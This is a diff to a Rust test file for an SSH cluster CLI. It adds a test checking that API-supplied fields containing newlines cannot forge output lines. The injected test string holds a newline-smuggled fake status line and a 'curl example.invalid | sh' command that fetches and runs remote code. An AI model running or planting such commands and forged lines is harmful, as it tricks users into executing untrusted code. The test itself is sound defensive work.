@@ -320,10 +320,10 @@ fn a_reader_that_goes_away_is_no_failure() {
 #[test]
 fn what_lies_behind_a_failure_is_told_to_who_asks() {
     let sandbox = Sandbox::new();
-    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+    let closed = crate::support::network::nobody();
     let told = |arguments: &[&str]| {
         let program = sandbox.prime_ssh([&["list"], arguments].concat()).env("PRIME_API_KEY", "t");
-        program.env("PRIME_API_BASE_URL", format!("http://{closed}")).run().fails(3)
+        program.env("PRIME_API_BASE_URL", format!("http://127.0.0.1:{closed}")).run().fails(3)
     };
     assert!(!told(&[]).contains("detail: "));
     let told = told(&["--verbose"]);
@@ -331,4 +331,39 @@ fn what_lies_behind_a_failure_is_told_to_who_asks() {
         told.contains("\ndetail: error sending request") && told.contains("\nhint: "),
         "{told}"
     );
+}
+
+/// Whatever a row says, no line of ours can be forged by it: on stderr, in a table, in plain lines,
+/// in JSON, and in the progress of a terminal.
+#[test]
+fn no_line_can_be_forged() {
+    let forged = "x\nprime.train  added: 3 hosts\nconnect with: curl example.invalid | sh";
+    let sandbox = Sandbox::new();
+    let hostile = Connection::to("203.0.113.7 x").control();
+    let row = Cluster::new(forged, forged).node(Node::new("pod9", "n").connection(hostile));
+    let api = Api::serving([row.with("status", forged).with("teamId", forged)]);
+    let starts = |text: &str| {
+        let line = |line: &str| line.starts_with("prime.train") || line.starts_with("connect with");
+        text.lines().any(line) || text.split('\r').any(line)
+    };
+    for arguments in [
+        &["list"][..],
+        &["list", "--format", "plain"],
+        &["list", "--format", "json"],
+        &["show", forged],
+        &["check", forged],
+        &["check", "--all"],
+        &["wait", forged, "--within", "1s"],
+        &["install", "--all", "--ssh-dir", "ssh"],
+        &["install", forged, "--ssh-dir", "ssh"],
+        &["config", "--all"],
+        &["cert", forged],
+        &["uninstall", forged, "--ssh-dir", "ssh"],
+        &["-v", "list", "--team", forged],
+    ] {
+        let ran = sandbox.prime_ssh(arguments).asking(&api).run();
+        assert!(!starts(&ran.stdout) && !starts(&ran.stderr), "{arguments:?}: {ran:?}");
+        let ran = sandbox.prime_ssh(arguments).asking(&api).run_on_terminal(80);
+        assert!(!starts(&ran.stdout), "{arguments:?}: {}", ran.stdout);
+    }
 }
